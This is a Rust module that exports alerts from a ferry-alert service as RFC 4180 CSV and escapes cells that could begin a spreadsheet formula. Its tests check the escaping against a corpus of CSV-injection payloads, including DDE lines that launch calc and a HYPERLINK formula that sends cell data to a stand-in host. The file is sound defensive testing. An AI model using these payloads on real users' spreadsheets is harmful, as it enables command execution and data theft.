//! Alerts as a table for spreadsheets (RFC 4180). Promises that no cell is read as a formula, whatever an operator or a person wrote, and that
//! each cell reads back: one that could begin a formula, or begins with the mark itself, has one mark before it. Never more rows than
//! a spreadsheet and we can hold.

use super::asked;
use crate::{problem::Problem, signed_in::MemberCx};
use axum::{
    http::header,
    response::{IntoResponse, Response},
};
use chrono::{DateTime, Utc};
use csv::{QuoteStyle, Terminator, WriterBuilder};
use store::{
    PAGE_MAX, Place,
    alert::{self, ShownAlert},
};
use uuid::Uuid;

/// The newest so many.
const ROWS_MAX: usize = 5_000;

/// What stands before a cell that a spreadsheet would take for a formula (OWASP, "CSV Injection").
const MARK: char = '\'';

const COLUMNS: [&str; 15] = [
    "alert",
    "watch",
    "kind",
    "leg",
    "operator",
    "route",
    "departs_local",
    "zone",
    "vessel",
    "class",
    "seen_at",
    "told_at",
    "closed_at",
    "closed_reason",
    "answer",
];

pub(crate) async fn export(cx: MemberCx) -> Result<Response, Problem> {
    let mut tx = cx.begin().await?;
    let (asked, mut rows) = (asked(&cx), vec![COLUMNS.map(str::to_owned).to_vec()]);
    let mut after: Option<Place<Uuid>> = None;
    while rows.len() <= ROWS_MAX {
        let page = alert::list(&mut tx, &asked, after.as_ref(), PAGE_MAX).await?;
        rows.extend(page.rows.iter().map(row));
        after = page.next;
        if after.is_none() {
            break;
        }
    }
    let headers = [
        (header::CONTENT_TYPE, "text/csv; charset=utf-8; header=present"),
        (header::CONTENT_DISPOSITION, "attachment; filename=\"ferryalert-alerts.csv\""),
    ];
    Ok((headers, table(&rows)).into_response())
}

fn row(alert: &ShownAlert) -> Vec<String> {
    let instant = |at: DateTime<Utc>| at.format("%FT%TZ").to_string();
    vec![
        alert.id.to_string(),
        alert.watch.to_string(),
        alert.kind.to_string(),
        crate::alerts::leg_word(alert.leg).to_owned(),
        alert.sailing.operator.manifest().name.to_owned(),
        alert.sailing.route.to_string(),
        alert.sailing.departs_local.format("%F %H:%M").to_string(),
        alert.sailing.zone.name().to_owned(),
        alert.sailing.vessel.as_ref().map(ToString::to_string).unwrap_or_default(),
        alert.class.to_string(),
        instant(alert.seen_at),
        instant(alert.released_at),
        alert.closed_at.map(instant).unwrap_or_default(),
        alert.closed_reason.clone().unwrap_or_default(),
        alert.answer.clone().unwrap_or_default(),
    ]
}

/// Rows as a table.
fn table(rows: &[Vec<String>]) -> Vec<u8> {
    let mut writer =
        WriterBuilder::new().terminator(Terminator::CRLF).quote_style(QuoteStyle::Always).from_writer(Vec::new());
    for row in rows {
        let cells = row.iter().map(|cell| inert(cell));
        writer.write_record(cells).expect("BUG: rows of one length go into memory");
    }
    writer.into_inner().expect("BUG: memory takes what is left")
}

/// A cell that no spreadsheet reads as a formula (ASVS 1.2.10).
fn inert(cell: &str) -> String {
    let begins_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', MARK]);
    if begins_formula { format!("{MARK}{cell}") } else { cell.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use csv::ReaderBuilder;
    use proptest::prelude::*;

    /// What spreadsheets were attacked with.
    const CORPUS: [&str; 14] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        "=HYPERLINK(\"https://evil.test?x=\"&A1,\"click\")",
        "'=1+1",
        "a\",=1+1,\"",
        "a\r\n=1+1",
        "=\"\"",
        "-",
    ];

    fn read(table: &[u8]) -> Vec<Vec<String>> {
        let mut reader = ReaderBuilder::new().has_headers(false).from_reader(table);
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    fn as_meant(cell: &str) -> &str {
        cell.strip_prefix(MARK).unwrap_or(cell)
    }

    fn holds(rows: &[Vec<String>]) {
        let table = table(rows);
        let back = read(&table);
        let meant: Vec<Vec<&str>> = back.iter().map(|row| row.iter().map(|cell| as_meant(cell)).collect()).collect();
        assert_eq!(meant, rows, "each cell reads back");
        for cell in back.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']), "{cell:?} would be a formula");
        }
        assert!(table.ends_with(b"\"\r\n"), "RFC 4180 ends lines with CRLF");
    }

    #[test]
    fn sr_inj_03_no_cell_of_the_corpus_is_a_formula_and_each_reads_back() {
        holds(&[CORPUS.map(str::to_owned).to_vec()]);
    }

    proptest! {
        #[test]
        fn sr_inj_03_no_cell_is_a_formula_and_each_reads_back(
            cells in prop::collection::vec("[-=+@\t\r\n\0'\",;aé ]{0,12}", 1..6), rows in 1_usize..4,
        ) {
            holds(&vec![cells; rows]);
        }
    }
}
